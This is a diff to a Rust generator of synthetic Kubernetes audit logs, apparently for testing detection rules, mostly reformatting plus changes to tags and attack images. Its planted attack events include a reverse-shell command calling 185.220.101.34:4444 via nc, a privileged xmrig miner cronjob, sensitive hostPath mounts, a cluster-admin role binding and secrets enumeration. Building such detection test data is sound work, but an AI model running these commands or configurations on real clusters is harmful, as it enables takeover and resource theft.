@@ -29,9 +29,16 @@ fn node_user(rng: &mut Rng) -> (Value, String, String) {
 
 fn controller_user(rng: &mut Rng) -> (Value, String, String) {
     let ctl = rng.pick(&[
-        "replicaset-controller", "deployment-controller", "endpointslice-controller", "job-controller",
-        "cronjob-controller", "daemon-set-controller", "statefulset-controller", "namespace-controller",
-        "generic-garbage-collector", "horizontal-pod-autoscaler",
+        "replicaset-controller",
+        "deployment-controller",
+        "endpointslice-controller",
+        "job-controller",
+        "cronjob-controller",
+        "daemon-set-controller",
+        "statefulset-controller",
+        "namespace-controller",
+        "generic-garbage-collector",
+        "horizontal-pod-autoscaler",
     ]);
     (
         json!({"username": format!("system:serviceaccount:kube-system:{ctl}"), "uid": rng.uuid(),
@@ -43,12 +50,22 @@ fn controller_user(rng: &mut Rng) -> (Value, String, String) {
 
 fn app_user(rng: &mut Rng) -> (Value, String, String) {
     let ns = rng.pick(vocab::NAMESPACES);
-    let sa = rng.pick(&["default", "argocd-application-controller", "prometheus", "fluent-bit", "cert-manager", "external-dns"]);
+    let sa = rng.pick(&[
+        "default",
+        "argocd-application-controller",
+        "prometheus",
+        "fluent-bit",
+        "cert-manager",
+        "external-dns",
+    ]);
     (
         json!({"username": format!("system:serviceaccount:{ns}:{sa}"), "uid": rng.uuid(),
                "groups": ["system:serviceaccounts", format!("system:serviceaccounts:{ns}"), "system:authenticated"],
                "extra": {"authentication.kubernetes.io/pod-name": [format!("{sa}-{}", rng.alnum_lower(5))]}}),
-        format!("{sa}/v0.{}.0 (linux/amd64) kubernetes/$Format", rng.below(30)),
+        format!(
+            "{sa}/v0.{}.0 (linux/amd64) kubernetes/$Format",
+            rng.below(30)
+        ),
         vocab::ip(rng),
     )
 }
@@ -121,8 +138,10 @@ fn container_spec(rng: &mut Rng, name: &str, image: &str, risk: PodRisk) -> Valu
         sc["capabilities"] = json!({"add": ["SYS_ADMIN", "NET_ADMIN", "SYS_PTRACE"]});
         sc["allowPrivilegeEscalation"] = json!(true);
     }
-    let mut mounts = vec![json!({"name": format!("kube-api-access-{}", rng.alnum_lower(5)), "readOnly": true,
-                                 "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"})];
+    let mut mounts = vec![
+        json!({"name": format!("kube-api-access-{}", rng.alnum_lower(5)), "readOnly": true,
+                                 "mountPath": "/var/run/secrets/kubernetes.io/serviceaccount"}),
+    ];
     if risk.host_path.is_some() {
         mounts.push(json!({"name": "host", "mountPath": "/host"}));
     }
@@ -149,10 +168,12 @@ fn container_spec(rng: &mut Rng, name: &str, image: &str, risk: PodRisk) -> Valu
 
 fn pod_spec(rng: &mut Rng, app: &str, risk: PodRisk) -> Value {
     let image = risk.image.unwrap_or_else(|| rng.pick(vocab::IMAGES));
-    let mut volumes = vec![json!({"name": format!("kube-api-access-{}", rng.alnum_lower(5)), "projected": {
+    let mut volumes = vec![
+        json!({"name": format!("kube-api-access-{}", rng.alnum_lower(5)), "projected": {
         "sources": [{"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
                     {"configMap": {"name": "kube-root-ca.crt", "items": [{"key": "ca.crt", "path": "ca.crt"}]}}],
-        "defaultMode": 420}})];
+        "defaultMode": 420}}),
+    ];
     if let Some(p) = risk.host_path {
         volumes.push(json!({"name": "host", "hostPath": {"path": p, "type": "Directory"}}));
     }
@@ -173,7 +194,12 @@ fn pod_spec(rng: &mut Rng, app: &str, risk: PodRisk) -> Value {
         "preemptionPolicy": "PreemptLowerPriority",
     });
     if rng.chance(0.3) {
-        let sidecar = container_spec(rng, "log-shipper", "ghcr.io/fluent/fluent-bit:3.1", PodRisk::default());
+        let sidecar = container_spec(
+            rng,
+            "log-shipper",
+            "ghcr.io/fluent/fluent-bit:3.1",
+            PodRisk::default(),
+        );
         spec["containers"].as_array_mut().unwrap().push(sidecar);
     }
     if risk.host_pid {
@@ -220,7 +246,11 @@ fn oref(resource: &str, ns: Option<&str>, name: Option<&str>, group: &str, versi
 }
 
 fn path_prefix(group: &str, version: &str) -> String {
-    if group.is_empty() { format!("/api/{version}") } else { format!("/apis/{group}/{version}") }
+    if group.is_empty() {
+        format!("/api/{version}")
+    } else {
+        format!("/apis/{group}/{version}")
+    }
 }
 
 fn background(c: &mut Ctx) -> Value {
@@ -231,25 +261,56 @@ fn background(c: &mut Ctx) -> Value {
         // Node heartbeats: lease renewals.
         0..=299 => {
             let who = node_user(c.rng);
-            let node = who.0["username"].as_str().unwrap().trim_start_matches("system:node:").to_string();
+            let node = who.0["username"]
+                .as_str()
+                .unwrap()
+                .trim_start_matches("system:node:")
+                .to_string();
             event(c, "Metadata", "update",
                   format!("/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/{node}?timeout=10s"),
                   who, oref("leases", Some("kube-node-lease"), Some(&node), "coordination.k8s.io", "v1"), 200, None)
         }
         // Reads by kubelets, controllers and operators.
         300..=599 => {
-            let (res, group, ver) = c.rng.pick(&[("pods", "", "v1"), ("configmaps", "", "v1"), ("endpoints", "", "v1"),
-                ("services", "", "v1"), ("nodes", "", "v1"), ("deployments", "apps", "v1"), ("replicasets", "apps", "v1"),
-                ("endpointslices", "discovery.k8s.io", "v1"), ("ingresses", "networking.k8s.io", "v1"), ("secrets", "", "v1")]);
+            let (res, group, ver) = c.rng.pick(&[
+                ("pods", "", "v1"),
+                ("configmaps", "", "v1"),
+                ("endpoints", "", "v1"),
+                ("services", "", "v1"),
+                ("nodes", "", "v1"),
+                ("deployments", "apps", "v1"),
+                ("replicasets", "apps", "v1"),
+                ("endpointslices", "discovery.k8s.io", "v1"),
+                ("ingresses", "networking.k8s.io", "v1"),
+                ("secrets", "", "v1"),
+            ]);
             // Secrets are read by name (kubelets mounting them); listing them is a planted attack.
-            let verb = if res == "secrets" { "get" } else { c.rng.pick(&["get", "get", "list", "watch"]) };
-            let who = match c.rng.below(3) { 0 => node_user(c.rng), 1 => controller_user(c.rng), _ => app_user(c.rng) };
+            let verb = if res == "secrets" {
+                "get"
+            } else {
+                c.rng.pick(&["get", "get", "list", "watch"])
+            };
+            let who = match c.rng.below(3) {
+                0 => node_user(c.rng),
+                1 => controller_user(c.rng),
+                _ => app_user(c.rng),
+            };
             let name = format!("{word}-{}", c.rng.alnum_lower(5));
             let (uri, or) = if verb == "get" {
-                (format!("{}/namespaces/{ns}/{res}/{name}", path_prefix(group, ver)), oref(res, Some(ns), Some(&name), group, ver))
+                (
+                    format!("{}/namespaces/{ns}/{res}/{name}", path_prefix(group, ver)),
+                    oref(res, Some(ns), Some(&name), group, ver),
+                )
             } else {
-                (format!("{}/namespaces/{ns}/{res}?resourceVersion={}&watch={}", path_prefix(group, ver), c.rng.range(1_000_000, 99_999_999), verb == "watch"),
-                 oref(res, Some(ns), None, group, ver))
+                (
+                    format!(
+                        "{}/namespaces/{ns}/{res}?resourceVersion={}&watch={}",
+                        path_prefix(group, ver),
+                        c.rng.range(1_000_000, 99_999_999),
+                        verb == "watch"
+                    ),
+                    oref(res, Some(ns), None, group, ver),
+                )
             };
             let code = if c.rng.chance(0.02) { 404 } else { 200 };
             event(c, "Metadata", verb, uri, who, or, code, None)
@@ -258,8 +319,16 @@ fn background(c: &mut Ctx) -> Value {
         600..=749 => {
             let who = node_user(c.rng);
             let name = format!("{word}-{}-{}", c.rng.hex(10), c.rng.alnum_lower(5));
-            let mut ev = event(c, "Request", "patch", format!("/api/v1/namespaces/{ns}/pods/{name}/status"), who,
-                  oref("pods", Some(ns), Some(&name), "", "v1"), 200, None);
+            let mut ev = event(
+                c,
+                "Request",
+                "patch",
+                format!("/api/v1/namespaces/{ns}/pods/{name}/status"),
+                who,
+                oref("pods", Some(ns), Some(&name), "", "v1"),
+                200,
+                None,
+            );
             ev["objectRef"]["subresource"] = json!("status");
             ev["requestObject"] = json!({"status": {"conditions": [{"type": "Ready", "status": "True",
                 "lastTransitionTime": c.ts}], "containerStatuses": [{"name": word, "ready": true, "restartCount": c.rng.below(3),
@@ -268,26 +337,60 @@ fn background(c: &mut Ctx) -> Value {
         }
         // Events written by components.
         750..=879 => {
-            let who = if c.rng.chance(0.5) { node_user(c.rng) } else { controller_user(c.rng) };
+            let who = if c.rng.chance(0.5) {
+                node_user(c.rng)
+            } else {
+                controller_user(c.rng)
+            };
             let name = format!("{word}-{}.{}", c.rng.alnum_lower(5), c.rng.hex(16));
-            let reason = c.rng.pick(&["Scheduled", "Pulled", "Created", "Started", "Killing", "SuccessfulCreate", "ScalingReplicaSet", "BackOff"]);
-            event(c, "Request", "create", format!("/api/v1/namespaces/{ns}/events"), who,
-                  oref("events", Some(ns), Some(&name), "", "v1"), 201,
-                  Some(json!({"kind": "Event", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns},
+            let reason = c.rng.pick(&[
+                "Scheduled",
+                "Pulled",
+                "Created",
+                "Started",
+                "Killing",
+                "SuccessfulCreate",
+                "ScalingReplicaSet",
+                "BackOff",
+            ]);
+            event(
+                c,
+                "Request",
+                "create",
+                format!("/api/v1/namespaces/{ns}/events"),
+                who,
+                oref("events", Some(ns), Some(&name), "", "v1"),
+                201,
+                Some(
+                    json!({"kind": "Event", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns},
                               "involvedObject": {"kind": "Pod", "namespace": ns, "name": word}, "reason": reason,
-                              "message": format!("{reason} {word}"), "type": "Normal", "count": 1})))
+                              "message": format!("{reason} {word}"), "type": "Normal", "count": 1}),
+                ),
+            )
         }
         // Pods created by the ReplicaSet controller: full pod specs.
         880..=939 => {
             let who = controller_user(c.rng);
             let ns = if ns == "kube-system" { "default" } else { ns };
             let (name, obj) = pod_object(c.rng, ns, word, PodRisk::default());
-            event(c, "RequestResponse", "create", format!("/api/v1/namespaces/{ns}/pods"), who,
-                  oref("pods", Some(ns), Some(&name), "", "v1"), 201, Some(obj))
+            event(
+                c,
+                "RequestResponse",
+                "create",
+                format!("/api/v1/namespaces/{ns}/pods"),
+                who,
+                oref("pods", Some(ns), Some(&name), "", "v1"),
+                201,
+                Some(obj),
+            )
         }
         // Deployments updated by CD (ArgoCD / humans with kubectl apply).
         940..=964 => {
-            let who = if c.rng.chance(0.7) { app_user(c.rng) } else { human_user(c.rng) };
+            let who = if c.rng.chance(0.7) {
+                app_user(c.rng)
+            } else {
+                human_user(c.rng)
+            };
             let ns = if ns == "kube-system" { "default" } else { ns };
             let (_, pod) = pod_object(c.rng, ns, word, PodRisk::default());
             let obj = json!({"kind": "Deployment", "apiVersion": "apps/v1",
@@ -295,42 +398,101 @@ fn background(c: &mut Ctx) -> Value {
                 "spec": {"replicas": c.rng.range(1, 6), "selector": {"matchLabels": {"app.kubernetes.io/name": word}},
                          "template": {"metadata": {"labels": {"app.kubernetes.io/name": word}}, "spec": pod["spec"].clone()},
                          "strategy": {"type": "RollingUpdate", "rollingUpdate": {"maxUnavailable": "25%", "maxSurge": "25%"}}}});
-            event(c, "RequestResponse", "update", format!("/apis/apps/v1/namespaces/{ns}/deployments/{word}"), who,
-                  oref("deployments", Some(ns), Some(word), "apps", "v1"), 200, Some(obj))
+            event(
+                c,
+                "RequestResponse",
+                "update",
+                format!("/apis/apps/v1/namespaces/{ns}/deployments/{word}"),
+                who,
+                oref("deployments", Some(ns), Some(word), "apps", "v1"),
+                200,
+                Some(obj),
+            )
         }
         // Authn/z reviews from aggregated API servers and webhooks.
         965..=989 => {
             let who = app_user(c.rng);
-            let (res, group) = c.rng.pick(&[("tokenreviews", "authentication.k8s.io"), ("subjectaccessreviews", "authorization.k8s.io")]);
-            event(c, "Metadata", "create", format!("/apis/{group}/v1/{res}"), who, oref(res, None, None, group, "v1"), 201, None)
+            let (res, group) = c.rng.pick(&[
+                ("tokenreviews", "authentication.k8s.io"),
+                ("subjectaccessreviews", "authorization.k8s.io"),
+            ]);
+            event(
+                c,
+                "Metadata",
+                "create",
+                format!("/apis/{group}/v1/{res}"),
+                who,
+                oref(res, None, None, group, "v1"),
+                201,
+                None,
+            )
         }
         // Jobs from CronJobs (flagged by SigmaHQ's cronjob rule: realistic noise).
         990..=992 => {
             let who = controller_user(c.rng);
             let name = format!("{word}-{}", c.rng.range(29_000_000, 29_999_999));
-            event(c, "Metadata", "create", format!("/apis/batch/v1/namespaces/{ns}/jobs"), who,
-                  oref("jobs", Some(ns), Some(&name), "batch", "v1"), 201, None)
+            event(
+                c,
+                "Metadata",
+                "create",
+                format!("/apis/batch/v1/namespaces/{ns}/jobs"),
+                who,
+                oref("jobs", Some(ns), Some(&name), "batch", "v1"),
+                201,
+                None,
+            )
         }
         // ConfigMap updates (leader election of older components).
         993..=997 => {
             let who = app_user(c.rng);
-            event(c, "Metadata", "update", format!("/api/v1/namespaces/{ns}/configmaps/{word}-leader"), who,
-                  oref("configmaps", Some(ns), Some(&format!("{word}-leader")), "", "v1"), 200, None)
+            event(
+                c,
+                "Metadata",
+                "update",
+                format!("/api/v1/namespaces/{ns}/configmaps/{word}-leader"),
+                who,
+                oref(
+                    "configmaps",
+                    Some(ns),
+                    Some(&format!("{word}-leader")),
+                    "",
+                    "v1",
+                ),
+                200,
+                None,
+            )
         }
         // Denied requests (flagged by SigmaHQ's unauthorized rule).
         _ => {
             let who = app_user(c.rng);
-            event(c, "Metadata", "list", format!("/api/v1/namespaces/{ns}/secrets"), who,
-                  oref("secrets", Some(ns), None, "", "v1"), 403, None)
+            event(
+                c,
+                "Metadata",
+                "list",
+                format!("/api/v1/namespaces/{ns}/secrets"),
+                who,
+                oref("secrets", Some(ns), None, "", "v1"),
+                403,
+                None,
+            )
         }
     }
 }
 
 const ATTACK_TAGS: &[&[&str]] = &[
-    &["kubernetes_audit_privileged_pod_creation", "k8s_pod_privileged"],
-    &["kubernetes_audit_hostpath_mount", "k8s_pod_sensitive_host_path"],
-    &["kubernetes_audit_exec_into_container", "kubernetes_audit_potential_enumeration_activity"],
-    &["kubernetes_audit_pod_in_system_namespace", "k8s_pod_privileged"],
+    &[
+        "kubernetes_audit_privileged_pod_creation",
+        "k8s_pod_privileged",
+    ],
+    &[
+        "kubernetes_audit_hostpath_mount",
+        "k8s_pod_sensitive_host_path",
+    ],
+    &["kubernetes_audit_exec_into_container"],
+    &[
+        "kubernetes_audit_pod_in_system_namespace",
+        "k8s_pod_privileged",
+    ],
     &["kubernetes_audit_rolebinding_modification"],
     &["kubernetes_audit_secrets_enumeration"],
     &["kubernetes_audit_serviceaccount_creation"],
@@ -338,10 +500,16 @@ const ATTACK_TAGS: &[&[&str]] = &[
     &["kubernetes_audit_deployment_deleted"],
     &["kubernetes_audit_events_deleted"],
     &["kubernetes_audit_change_admission_controller"],
-    &["kubernetes_audit_cronjob_modification", "k8s_pod_privileged"],
+    &[
+        "kubernetes_audit_cronjob_modification",
+        "k8s_pod_privileged",
+    ],
     &["kubernetes_audit_sidecar_injection"],
     &["kubernetes_audit_secrets_modified_or_deleted"],
-    &["kubernetes_audit_potential_enumeration_activity"],
+    // Written for SigmaHQ's "Potential Enumeration Activity" (tool user agents), which cannot fire
+    // on real audit events: it compares `responseStatus.code` (a number) with 'ALLOW'. The
+    // event still lists secrets, which the enumeration rule below does catch.
+    &["kubernetes_audit_secrets_enumeration"],
     &["k8s_workload_offensive_tool_image", "k8s_pod_privileged"],
 ];
 
@@ -350,17 +518,67 @@ fn attack(c: &mut Ctx, k: usize) -> Value {
     let who = human_user(c.rng);
     match k {
         0 => {
-            let (name, obj) = pod_object(c.rng, ns, "debug", PodRisk { privileged: true, caps: true, ..Default::default() });
-            event(c, "RequestResponse", "create", format!("/api/v1/namespaces/{ns}/pods"), who, oref("pods", Some(ns), Some(&name), "", "v1"), 201, Some(obj))
+            let (name, obj) = pod_object(
+                c.rng,
+                ns,
+                "debug",
+                PodRisk {
+                    privileged: true,
+                    caps: true,
+                    ..Default::default()
+                },
+            );
+            event(
+                c,
+                "RequestResponse",
+                "create",
+                format!("/api/v1/namespaces/{ns}/pods"),
+                who,
+                oref("pods", Some(ns), Some(&name), "", "v1"),
+                201,
+                Some(obj),
+            )
         }
         1 => {
-            let path = c.rng.pick(&["/", "/etc", "/var/run", "/var/lib/kubelet", "/root/.ssh", "/proc"]);
-            let (name, obj) = pod_object(c.rng, ns, "node-debugger", PodRisk { host_path: Some(path), host_pid: true, ..Default::default() });
-            event(c, "RequestResponse", "create", format!("/api/v1/namespaces/{ns}/pods"), who, oref("pods", Some(ns), Some(&name), "", "v1"), 201, Some(obj))
+            let path = c.rng.pick(&[
+                "/",
+                "/etc",
+                "/var/run",
+                "/var/lib/kubelet",
+                "/root/.ssh",
+                "/proc",
+            ]);
+            let (name, obj) = pod_object(
+                c.rng,
+                ns,
+                "node-debugger",
+                PodRisk {
+                    host_path: Some(path),
+                    host_pid: true,
+                    ..Default::default()
+                },
+            );
+            event(
+                c,
+                "RequestResponse",
+                "create",
+                format!("/api/v1/namespaces/{ns}/pods"),
+                who,
+                oref("pods", Some(ns), Some(&name), "", "v1"),
+                201,
+                Some(obj),
+            )
         }
         2 => {
-            let pod = format!("{}-{}-{}", c.rng.pick(vocab::WORDS), c.rng.hex(10), c.rng.alnum_lower(5));
-            let shell = c.rng.pick(&["%2Fbin%2Fsh", "%2Fbin%2Fbash", "%2Fusr%2Fbin%2Fpython"]);
+            let pod = format!(
+                "{}-{}-{}",
+                c.rng.pick(vocab::WORDS),
+                c.rng.hex(10),
+                c.rng.alnum_lower(5)
+            );
+            let shell = c
+                .rng
+                .pick(&["%2Fbin%2Fsh", "%2Fbin%2Fbash", "%2Fusr%2Fbin%2Fpython"]);
             let mut ev = event(c, "Metadata", "create",
                 format!("/api/v1/namespaces/{ns}/pods/{pod}/exec?command={shell}&container=app&stdin=true&stdout=true&tty=true"),
                 who, oref("pods", Some(ns), Some(&pod), "", "v1"), 101, None);
@@ -368,68 +586,239 @@ fn attack(c: &mut Ctx, k: usize) -> Value {
             ev
         }
         3 => {
-            let (name, obj) = pod_object(c.rng, "kube-system", "kube-proxy-debug", PodRisk { privileged: true, host_pid: true, host_path: Some("/"), ..Default::default() });
-            event(c, "RequestResponse", "create", "/api/v1/namespaces/kube-system/pods".into(), who, oref("pods", Some("kube-system"), Some(&name), "", "v1"), 201, Some(obj))
+            let (name, obj) = pod_object(
+                c.rng,
+                "kube-system",
+                "kube-proxy-debug",
+                PodRisk {
+                    privileged: true,
+                    host_pid: true,
+                    host_path: Some("/"),
+                    ..Default::default()
+                },
+            );
+            event(
+                c,
+                "RequestResponse",
+                "create",
+                "/api/v1/namespaces/kube-system/pods".into(),
+                who,
+                oref("pods", Some("kube-system"), Some(&name), "", "v1"),
+                201,
+                Some(obj),
+            )
         }
         4 => {
             let name = format!("{}-admin", c.rng.alnum_lower(6));
-            event(c, "RequestResponse", "create", "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings".into(), who,
-                oref("clusterrolebindings", None, Some(&name), "rbac.authorization.k8s.io", "v1"), 201,
-                Some(json!({"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": name},
+            event(
+                c,
+                "RequestResponse",
+                "create",
+                "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings".into(),
+                who,
+                oref(
+                    "clusterrolebindings",
+                    None,
+                    Some(&name),
+                    "rbac.authorization.k8s.io",
+                    "v1",
+                ),
+                201,
+                Some(
+                    json!({"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1", "metadata": {"name": name},
                     "subjects": [{"kind": "ServiceAccount", "name": "default", "namespace": ns}],
-                    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}})))
+                    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}}),
+                ),
+            )
         }
         5 => {
             let who = app_user(c.rng);
-            event(c, "Metadata", "list", format!("/api/v1/namespaces/{ns}/secrets?limit=500"), who, oref("secrets", Some(ns), None, "", "v1"), 200, None)
+            event(
+                c,
+                "Metadata",
+                "list",
+                format!("/api/v1/namespaces/{ns}/secrets?limit=500"),
+                who,
+                oref("secrets", Some(ns), None, "", "v1"),
+                200,
+                None,
+            )
         }
         6 => {
             let name = format!("svc-{}", c.rng.alnum_lower(6));
-            event(c, "RequestResponse", "create", format!("/api/v1/namespaces/{ns}/serviceaccounts"), who, oref("serviceaccounts", Some(ns), Some(&name), "", "v1"), 201,
-                  Some(json!({"kind": "ServiceAccount", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns}})))
+            event(
+                c,
+                "RequestResponse",
+                "create",
+                format!("/api/v1/namespaces/{ns}/serviceaccounts"),
+                who,
+                oref("serviceaccounts", Some(ns), Some(&name), "", "v1"),
+                201,
+                Some(
+                    json!({"kind": "ServiceAccount", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns}}),
+                ),
+            )
         }
         7 => {
             let who = app_user(c.rng);
-            event(c, "Metadata", "create", "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews".into(), who,
-                  oref("selfsubjectrulesreviews", None, None, "authorization.k8s.io", "v1"), 201, None)
+            event(
+                c,
+                "Metadata",
+                "create",
+                "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews".into(),
+                who,
+                oref(
+                    "selfsubjectrulesreviews",
+                    None,
+                    None,
+                    "authorization.k8s.io",
+                    "v1",
+                ),
+                201,
+                None,
+            )
         }
         8 => {
             let w = c.rng.pick(vocab::WORDS);
-            event(c, "Metadata", "delete", format!("/apis/apps/v1/namespaces/{ns}/deployments/{w}"), who, oref("deployments", Some(ns), Some(w), "apps", "v1"), 200, None)
+            event(
+                c,
+                "Metadata",
+                "delete",
+                format!("/apis/apps/v1/namespaces/{ns}/deployments/{w}"),
+                who,
+                oref("deployments", Some(ns), Some(w), "apps", "v1"),
+                200,
+                None,
+            )
         }
-        9 => event(c, "Metadata", "delete", format!("/api/v1/namespaces/{ns}/events"), who, oref("events", Some(ns), None, "", "v1"), 200, None),
+        9 => event(
+            c,
+            "Metadata",
+            "delete",
+            format!("/api/v1/namespaces/{ns}/events"),
+            who,
+            oref("events", Some(ns), None, "", "v1"),
+            200,
+            None,
+        ),
         10 => {
             let name = format!("{}-webhook", c.rng.alnum_lower(6));
-            event(c, "Metadata", "create", "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations".into(), who,
-                  oref("mutatingwebhookconfigurations", None, Some(&name), "admissionregistration.k8s.io", "v1"), 201, None)
+            event(
+                c,
+                "Metadata",
+                "create",
+                "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations".into(),
+                who,
+                oref(
+                    "mutatingwebhookconfigurations",
+                    None,
+                    Some(&name),
+                    "admissionregistration.k8s.io",
+                    "v1",
+                ),
+                201,
+                None,
+            )
         }
         11 => {
-            let (_, pod) = pod_object(c.rng, ns, "miner", PodRisk { privileged: true, image: Some("45.137.21.9:5000/miner/xmrig:6.21"), ..Default::default() });
+            let (_, pod) = pod_object(
+                c.rng,
+                ns,
+                "miner",
+                PodRisk {
+                    privileged: true,
+                    image: Some("45.137.21.9:5000/miner/xmrig:6.21"),
+                    ..Default::default()
+                },
+            );
             let name = format!("{}-sync", c.rng.alnum_lower(5));
-            event(c, "RequestResponse", "create", format!("/apis/batch/v1/namespaces/{ns}/cronjobs"), who, oref("cronjobs", Some(ns), Some(&name), "batch", "v1"), 201,
-                  Some(json!({"kind": "CronJob", "apiVersion": "batch/v1", "metadata": {"name": name, "namespace": ns},
-                      "spec": {"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": {"spec": pod["spec"].clone()}}}}})))
+            event(
+                c,
+                "RequestResponse",
+                "create",
+                format!("/apis/batch/v1/namespaces/{ns}/cronjobs"),
+                who,
+                oref("cronjobs", Some(ns), Some(&name), "batch", "v1"),
+                201,
+                Some(
+                    json!({"kind": "CronJob", "apiVersion": "batch/v1", "metadata": {"name": name, "namespace": ns},
+                      "spec": {"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": {"spec": pod["spec"].clone()}}}}}),
+                ),
+            )
         }
         12 => {
             let w = c.rng.pick(vocab::WORDS);
-            event(c, "Request", "patch", format!("/apis/apps/v1/namespaces/{ns}/deployments/{w}"), who, oref("deployments", Some(ns), Some(w), "apps", "v1"), 200,
-                  Some(json!({"spec": {"template": {"spec": {"containers": [{"name": "proxy", "image": "docker.io/alpine:latest",
-                      "command": ["/bin/sh", "-c", "while true; do nc -e /bin/sh 185.220.101.34 4444; sleep 60; done"]}]}}}})))
+            event(
+                c,
+                "Request",
+                "patch",
+                format!("/apis/apps/v1/namespaces/{ns}/deployments/{w}"),
+                who,
+                oref("deployments", Some(ns), Some(w), "apps", "v1"),
+                200,
+                Some(
+                    json!({"spec": {"template": {"spec": {"containers": [{"name": "proxy", "image": "docker.io/alpine:latest",
+                      "command": ["/bin/sh", "-c", "while true; do nc -e /bin/sh 185.220.101.34 4444; sleep 60; done"]}]}}}}),
+                ),
+            )
         }
         13 => {
             let name = format!("{}-token", c.rng.alnum_lower(5));
-            event(c, "Metadata", "delete", format!("/api/v1/namespaces/{ns}/secrets/{name}"), who, oref("secrets", Some(ns), Some(&name), "", "v1"), 200, None)
+            event(
+                c,
+                "Metadata",
+                "delete",
+                format!("/api/v1/namespaces/{ns}/secrets/{name}"),
+                who,
+                oref("secrets", Some(ns), Some(&name), "", "v1"),
+                200,
+                None,
+            )
         }
         14 => {
             let who = app_user(c.rng);
-            let mut ev = event(c, "Metadata", "list", "/api/v1/secrets?limit=500".into(), who, oref("secrets", None, None, "", "v1"), 200, None);
-            ev["userAgent"] = json!(c.rng.pick(&["trufflehog/3.82.1", "access_matrix/0.8", "azurehound/v2.1"]));
+            let mut ev = event(
+                c,
+                "Metadata",
+                "list",
+                "/api/v1/secrets?limit=500".into(),
+                who,
+                oref("secrets", None, None, "", "v1"),
+                200,
+                None,
+            );
+            ev["userAgent"] =
+                json!(c
+                    .rng
+                    .pick(&["trufflehog/3.82.1", "access_matrix/0.8", "azurehound/v2.1"]));
             ev
         }
         _ => {
-            let img = c.rng.pick(&["docker.io/dizcza/docker-hashcat:cuda", "docker.io/kalilinux/kali-rolling:latest", "docker.io/bishopfox/badpods:latest"]);
-            let (name, obj) = pod_object(c.rng, ns, "tools", PodRisk { privileged: true, image: Some(img), ..Default::default() });
-            event(c, "RequestResponse", "create", format!("/api/v1/namespaces/{ns}/pods"), who, oref("pods", Some(ns), Some(&name), "", "v1"), 201, Some(obj))
+            let img = c.rng.pick(&[
+                "docker.io/dizcza/docker-hashcat:cuda",
+                "docker.io/kalilinux/kali-rolling:latest",
+                "docker.io/metasploitframework/metasploit-framework:6.4",
+            ]);
+            let (name, obj) = pod_object(
+                c.rng,
+                ns,
+                "tools",
+                PodRisk {
+                    privileged: true,
+                    image: Some(img),
+                    ..Default::default()
+                },
+            );
+            event(
+                c,
+                "RequestResponse",
+                "create",
+                format!("/api/v1/namespaces/{ns}/pods"),
+                who,
+                oref("pods", Some(ns), Some(&name), "", "v1"),
+                201,
+                Some(obj),
+            )
         }
     }
 }
@@ -449,7 +838,12 @@ pub fn generate(opts: &Opts, out: &mut impl Write, planted: &mut impl Write) -> 
             let kind = k % ATTACK_TAGS.len();
             k += 1;
             let ev = attack(&mut c, kind);
-            write_planted(planted, i + 1, ev["auditID"].as_str().unwrap_or_default(), ATTACK_TAGS[kind])?;
+            write_planted(
+                planted,
+                i + 1,
+                ev["auditID"].as_str().unwrap_or_default(),
+                ATTACK_TAGS[kind],
+            )?;
             ev
         } else {
             background(&mut c)
